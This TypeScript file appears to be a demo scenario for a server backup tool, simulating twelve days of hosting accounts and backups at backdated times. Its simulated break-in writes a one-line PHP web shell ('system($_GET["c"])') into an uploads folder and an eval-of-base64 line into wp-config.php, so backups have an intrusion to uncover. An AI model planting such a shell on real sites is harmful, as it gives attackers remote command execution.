import {rm} from 'node:fs/promises';
import {join} from 'node:path';
import {serveQueue} from '../../runner/serve-queue.ts';
import {refreshAccounts} from '../../state/refresh-accounts.ts';
import type {Clock} from '../../system/clock.ts';
import type {Context} from '../context.ts';
import {planBackups} from '../create-backups.ts';
import {saveTasks} from '../queue-tasks.ts';
import {demoStages, type DemoAccount} from './demo-accounts.ts';
import {HomeWriter, noise, type DemoFile} from './demo-files.ts';
import {mailFiles, makeHome} from './demo-home.ts';
import type {DemoMachine} from './demo-machine.ts';
import {declareDomains, makeServices} from './demo-services.ts';

const hourMs = 3_600_000;
const dayMs = 24 * hourMs;

type History = {readonly context: Context; readonly machine: DemoMachine; readonly now: Date; readonly signal: AbortSignal};

/** Lives through twelve days in a few seconds: users come, work and go, and are backed up by the real engine at the times of then. */
export const liveThrough = async (history: History): Promise<void> => {
	const {machine} = history;
	const then = (days: number): Date => new Date(history.now.getTime() - (days * dayMs) - (5 * hourMs));
	const [alice] = demoStages.first;
	const writer = new HomeWriter(machine.home(alice.name), alice);

	await machine.setAccounts(demoStages.first);
	await makeHomes(machine, demoStages.first, then(30));
	await serve(machine, demoStages.first, then(30));
	await backUp(history, then(12), {job: 'nightly'});

	await writer.write([shopPage(1), ...mailFiles(alice, {from: 40, count: 5, at: then(10)})], then(10));
	await backUp(history, then(9), {job: 'nightly'});

	await machine.setAccounts(demoStages.thinned);
	await machine.removeHome('frank');
	await machine.removeHome('grace');
	await refreshAccounts(history.context.store, {clock: clockAt(then(8))});

	await machine.setAccounts(demoStages.last);
	await makeHomes(machine, demoStages.last.filter(({name}) => name === 'erin' || name === 'grace'), then(6));
	await serve(machine, demoStages.last, then(6));
	await writer.write([shopPage(2), {path: 'public_html/wp-content/uploads/catalogue.pdf', content: noise('catalogue', 400_000)}], then(5));
	await backUp(history, then(4), {job: 'nightly', accounts: ['alice', 'bob', 'carol', 'dave', 'olga', 'grace']});

	// The story to find out: somebody got in.
	await writer.write(breakIn, then(1.5));
	await backUp(history, then(1), {job: 'nightly', accounts: ['alice', 'carol', 'dave', 'olga']});

	await rm(join(machine.home(alice.name), 'public_html', 'wp-includes', 'rest'), {recursive: true});
	await backUp(history, then(-0.1), {accounts: ['alice']});
};

const breakIn: readonly DemoFile[] = [
	{path: 'public_html/wp-config.php', content: '<?php\neval(base64_decode("ZGVtbw=="));\n', mode: 0o640},
	{path: 'public_html/wp-content/uploads/.cache.php', content: '<?php system($_GET["c"]);\n'},
];

const makeHomes = async (machine: DemoMachine, accounts: readonly DemoAccount[], at: Date): Promise<void> => {
	for (const account of accounts) {
		await makeHome(machine, account, at);
	}
};

/** The services serve all accounts that there are. */
const serve = async (machine: DemoMachine, accounts: readonly DemoAccount[], at: Date): Promise<void> => {
	const housed = accounts.map(account => ({...account, home: machine.home(account.name)}));

	await makeServices(machine.directory, housed, at);
};

const shopPage = (version: number) => ({path: 'public_html/shop.php', content: `<?php\n// Version ${version} of the shop\n`});

type Round = {readonly job?: string; readonly accounts?: readonly string[]};

/** Queues backups as an operator would and carries them out here, by a clock of the past. */
const backUp = async ({context, signal}: History, at: Date, {job, accounts}: Round): Promise<void> => {
	const clock = clockAt(at);
	const {identities} = await refreshAccounts(context.store, {clock});
	await declareDomains(context.store);
	const names = accounts ?? identities.filter(({status}) => status !== 'inactive').map(({uuid}) => uuid);

	await saveTasks({...context, clock}, await planBackups({store: context.store, clock}, {accounts: names, job}));
	await serveQueue({
		store: context.store, clock, isDaemon: false, isCallerExpected: false, signal, log: () => undefined,
	});
};

/** A clock that was set back, and goes on from there. */
const clockAt = (at: Date): Clock => {
	const startedAt = performance.now();

	return {now: () => new Date(at.getTime() + performance.now() - startedAt)};
};
